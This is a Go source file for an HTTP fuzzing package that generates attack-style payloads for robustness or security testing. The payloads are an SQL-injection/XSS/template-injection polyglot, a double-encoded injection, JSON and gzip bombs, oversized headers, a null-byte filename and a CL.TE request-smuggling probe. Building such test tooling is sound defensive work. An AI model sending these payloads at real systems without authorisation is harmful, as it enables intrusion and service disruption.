// Package fuzz generates pathological HTTP payload variants into
// caller-owned buffers. The worker hands in the same 1 MiB buffer for its
// whole lifetime; once that buffer exists nothing here allocates, except
// when the pooled gzip encoder has to be refilled.
package fuzz

import (
	"math/rand/v2"
	"strings"
)

// NumVariants is the size of the variant catalog. Selection is uniform
// over the full range; the last index is the NOOP probe.
const NumVariants = 12

// Fuzzer writes one payload variant into a caller-owned buffer.
type Fuzzer interface {
	// Generate truncates buf to length zero (keeping its capacity) and
	// appends one randomly chosen variant, returning the filled slice.
	Generate(buf []byte, template string) []byte
}

// Polyglot is the catalog fuzzer: overflow, injection polyglots, parser
// bombs, smuggling and protocol-state abuse. Host is injected into the
// smuggling variant; when empty a placeholder is used.
type Polyglot struct {
	Host string
}

// Generate implements Fuzzer.
func (p Polyglot) Generate(buf []byte, template string) []byte {
	return p.generateVariant(buf[:0], rand.IntN(NumVariants), template)
}

// generateVariant appends the chosen variant. Split out so tests can pin
// the variant index.
func (p Polyglot) generateVariant(dst []byte, variant int, _ string) []byte {
	switch variant {
	case 0:
		return append(dst, overflowBlock...)
	case 1:
		return append(dst, injectionPolyglot...)
	case 2:
		return appendJSONExplosion(dst, 1000)
	case 3:
		return appendGzipBomb(dst, len(zeroBlock))
	case 4:
		return appendOversizedHeaders(dst, 8192)
	case 5:
		return append(dst, doubleEncodedInjection...)
	case 6:
		return appendBadCharWalk(dst, badCharBase)
	case 7:
		return appendVerbManipulation(dst)
	case 8:
		return appendSmuggling(dst, p.host())
	case 9:
		return append(dst, "admin\x00.php"...)
	case 10:
		// Truncated TLS record header: a handshake that dies mid-frame.
		return append(dst, 0x16, 0x03, 0x01, 0x00)
	default:
		return append(dst, "NOOP"...)
	}
}

func (p Polyglot) host() string {
	if p.Host == "" {
		return "target.local"
	}
	return p.Host
}

var (
	overflowBlock     = makeRepeated('A', 64*1024)
	injectionPolyglot = []byte(`' OR 1=1 -- <script>alert(1)</script> {{7*7}}`)
	badCharBase       = []byte("admin")

	// doubleEncodedInjection is percent-encoding applied twice to the
	// classic comment-out probe, computed once at package init.
	doubleEncodedInjection = []byte(percentEncode(percentEncode(`' OR 1=1 --`)))

	// zeroBlock is the reusable all-zero plaintext for the gzip bomb. It
	// is read-only after init and therefore safe to share across workers.
	zeroBlock = make([]byte, 1024*1024)
)

func makeRepeated(b byte, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}

// percentEncode is RFC 3986 percent-encoding over everything outside the
// unreserved set. Only used at init.
func percentEncode(s string) string {
	const hex = "0123456789ABCDEF"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' ||
			c == '-' || c == '_' || c == '.' || c == '~' {
			b.WriteByte(c)
			continue
		}
		b.WriteByte('%')
		b.WriteByte(hex[c>>4])
		b.WriteByte(hex[c&0x0f])
	}
	return b.String()
}

// appendJSONExplosion nests depth objects to stress recursive parsers.
func appendJSONExplosion(dst []byte, depth int) []byte {
	for i := 0; i < depth; i++ {
		dst = append(dst, `{"a":`...)
	}
	dst = append(dst, '1')
	for i := 0; i < depth; i++ {
		dst = append(dst, '}')
	}
	return dst
}

// appendOversizedHeaders emits a single header line far past common
// per-header limits.
func appendOversizedHeaders(dst []byte, size int) []byte {
	dst = append(dst, "Cookie: session="...)
	for i := 0; i < size; i++ {
		dst = append(dst, 'X')
	}
	return dst
}

// appendBadCharWalk takes the base token and corrupts one byte at a random
// index with a random high byte.
func appendBadCharWalk(dst []byte, base []byte) []byte {
	start := len(dst)
	dst = append(dst, base...)
	idx := start + rand.IntN(len(base))
	dst[idx] = byte(128 + rand.IntN(128))
	return dst
}

var uncommonVerbs = []string{"PROPFIND", "MOVE", "LOCK", "UNLOCK", "SEARCH", "PURGE"}

// appendVerbManipulation emits a complete request line using a verb most
// origin servers never see.
func appendVerbManipulation(dst []byte) []byte {
	verb := uncommonVerbs[rand.IntN(len(uncommonVerbs))]
	dst = append(dst, verb...)
	return append(dst, " / HTTP/1.1\r\nHost: target.internal\r\n\r\n"...)
}

// appendSmuggling emits a CL.TE desync probe: Content-Length and
// Transfer-Encoding disagree about where the request ends.
func appendSmuggling(dst []byte, host string) []byte {
	dst = append(dst, "POST / HTTP/1.1\r\nHost: "...)
	dst = append(dst, host...)
	dst = append(dst, "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX"...)
	return dst
}
